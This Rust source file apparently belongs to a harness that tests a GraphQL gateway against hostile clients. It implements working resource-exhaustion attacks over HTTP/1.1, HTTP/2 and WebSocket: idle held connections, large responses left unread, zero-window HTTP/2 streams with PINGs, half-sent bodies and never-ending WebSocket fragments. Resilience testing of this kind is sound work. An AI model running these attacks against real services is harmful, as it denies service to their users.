//! Attacks that hold resources: connections without a request, responses that are not read, and incomplete bodies.

use futures_util::FutureExt;
use futures_util::StreamExt;
use h2::client::{Builder, SendRequest};
use serde_json::{Value, json};
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};

use crate::attack::{Client, PAUSE};
use crate::target::HOSTILE;
use crate::transport::{Socket, Transport, connect, open_as, open_socket, send_message, subscribe};

/// Connections of one client. The hundred clients together try to open more than the gateway accepts.
const CONNECTIONS: usize = 25;

/// Streams of one HTTP/2 connection, and requests on one HTTP/1.1 connection.
const STREAMS: usize = 4;

/// A query with a large response.
const TAB: &str =
    "query($id: ID!) { customer(id: $id) { sessions(first: 100) { nodes { id startedAt endedAt
    lastActivityAt eventCount channel { label } } } } }";

fn body(client: &Client) -> Value {
    json!({"query": TAB, "variables": {"id": client.fixtures.frequent_customer}})
}

/// Holds connections on which the client sends nothing beyond the transport's handshake.
pub(crate) async fn idle(client: &Client) {
    if client.transport == Transport::WebSocket {
        let mut held: Vec<Socket> = Vec::new();
        loop {
            held.retain_mut(|socket| socket.next().now_or_never().is_none());
            while held.len() < CONNECTIONS {
                client.count();
                match open_socket(client.from, client.to).await {
                    Some(socket) => held.push(socket),
                    None => break,
                }
            }
            sleep(PAUSE).await;
        }
    }
    let mut held: Vec<TcpStream> = Vec::new();
    loop {
        held.retain(is_open);
        while held.len() < CONNECTIONS {
            let Some(mut stream) = connect(client.from, client.to).await else {
                break;
            };
            client.count();
            if client.transport == Transport::Http2 {
                // The HTTP/2 preface and an empty SETTINGS frame.
                let preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
                let _ = stream.write_all(preface).await;
            }
            held.push(stream);
        }
        sleep(PAUSE).await;
    }
}

/// Whether the gateway has kept the connection open. This does not read what the gateway sent.
fn is_open(stream: &TcpStream) -> bool {
    let mut byte = [0];
    match stream.peek(&mut byte).now_or_never() {
        Some(Ok(read)) => read > 0,
        Some(Err(_)) => false,
        None => true,
    }
}

/// Sends requests with large responses and never reads them. HTTP/2 connections also send PINGs.
pub(crate) async fn unread(client: &Client) {
    let body = body(client);
    match client.transport {
        Transport::Http1 => {
            let body = body.to_string();
            let request = format!(
                "POST /graphql HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {HOSTILE}\r\n\
                 content-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
                body.len()
            );
            hold(client, request.repeat(STREAMS).as_bytes()).await;
        }
        Transport::Http2 => {
            hold_streams(client, 0, &body.to_string(), true).await;
        }
        Transport::WebSocket => {
            let mut held = Vec::new();
            loop {
                if let Some(mut socket) = open_as(client.from, client.to, HOSTILE).await {
                    for id in 0..STREAMS {
                        let message = subscribe(id, TAB, &body["variables"]);
                        if send_message(&mut socket, &message).await.is_none() {
                            break;
                        }
                        client.count();
                    }
                    held.push(socket);
                }
                if held.len() > CONNECTIONS {
                    held.remove(0);
                }
                sleep(PAUSE).await;
            }
        }
    }
}

/// Sends half of a body; on a WebSocket, fragments of a message that never ends.
pub(crate) async fn half_sent(client: &Client) {
    match client.transport {
        Transport::Http1 => {
            let request = format!(
                "POST /graphql HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {HOSTILE}\r\n\
                 content-type: application/json\r\ncontent-length: 200000\r\n\r\n{}",
                "x".repeat(100_000)
            );
            hold(client, request.as_bytes()).await;
        }
        Transport::Http2 => {
            hold_streams(client, 65_535, &"x".repeat(30_000), false).await;
        }
        Transport::WebSocket => {
            // A text frame without FIN, then empty continuation frames. Client frames are masked.
            let begin = [0x01, 0x80, 0, 0, 0, 0];
            let continuations = [0x00, 0x80, 0, 0, 0, 0].repeat(1_000);
            loop {
                let Some(mut socket) = open_as(client.from, client.to, HOSTILE).await else {
                    sleep(PAUSE).await;
                    continue;
                };
                let stream = socket.get_mut();
                let mut is_open = stream.write_all(&begin).await.is_ok();
                while is_open {
                    is_open = stream.write_all(&continuations).await.is_ok();
                    client.count();
                    tokio::task::yield_now().await;
                }
            }
        }
    }
}

/// Holds connections on which these bytes were sent, and replaces those that the gateway closes.
async fn hold(client: &Client, bytes: &[u8]) {
    let mut held: Vec<TcpStream> = Vec::new();
    loop {
        held.retain(is_open);
        if held.len() < CONNECTIONS
            && let Some(mut stream) = connect(client.from, client.to).await
        {
            // The gateway may stop reading or close the connection before all bytes are sent.
            let _ = timeout(PAUSE, stream.write_all(bytes)).await;
            client.count();
            held.push(stream);
        }
        sleep(PAUSE).await;
    }
}

/// Holds HTTP/2 connections with this initial window and [`STREAMS`] requests each, and replaces those that the gateway
/// closes.
async fn hold_streams(client: &Client, window: u32, body: &str, is_complete: bool) {
    let mut held: Vec<(SendRequest<bytes::Bytes>, Vec<OpenRequest>)> = Vec::new();
    loop {
        held.retain(|(sender, _)| !matches!(sender.clone().ready().now_or_never(), Some(Err(_))));
        if held.len() < CONNECTIONS
            && let Some(mut sender) = http2(client, window).await
        {
            let mut requests = Vec::new();
            while requests.len() < STREAMS
                && let Some(request) = post(&mut sender, body, is_complete)
            {
                client.count();
                requests.push(request);
            }
            held.push((sender, requests));
        }
        sleep(PAUSE).await;
    }
}

/// Opens an HTTP/2 connection with this initial stream window that sends PINGs.
async fn http2(client: &Client, window: u32) -> Option<SendRequest<bytes::Bytes>> {
    let stream = connect(client.from, client.to).await?;
    let mut builder = Builder::new();
    builder.initial_window_size(window);
    let (sender, mut connection) = builder.handshake(stream).await.ok()?;
    let mut pings = connection.ping_pong()?;
    tokio::spawn(connection);
    tokio::spawn(async move {
        while pings.ping(h2::Ping::opaque()).await.is_ok() {
            sleep(PAUSE).await;
        }
    });
    sender.ready().await.ok()
}

/// The open halves of a request on an HTTP/2 stream.
type OpenRequest = (h2::client::ResponseFuture, h2::SendStream<bytes::Bytes>);

fn post(
    sender: &mut SendRequest<bytes::Bytes>,
    body: &str,
    is_complete: bool,
) -> Option<OpenRequest> {
    let request = axum::http::Request::post("http://x/graphql")
        .header("authorization", format!("Bearer {HOSTILE}"))
        .header("content-type", "application/json")
        .body(())
        .ok()?;
    // A stream beyond the gateway's limit would wait until another one ends, which never happens.
    let ready = sender.clone().ready().now_or_never()?.ok()?;
    *sender = ready;
    let (response, mut send_stream) = sender.send_request(request, false).ok()?;
    send_stream
        .send_data(body.to_owned().into(), is_complete)
        .ok()?;
    Some((response, send_stream))
}
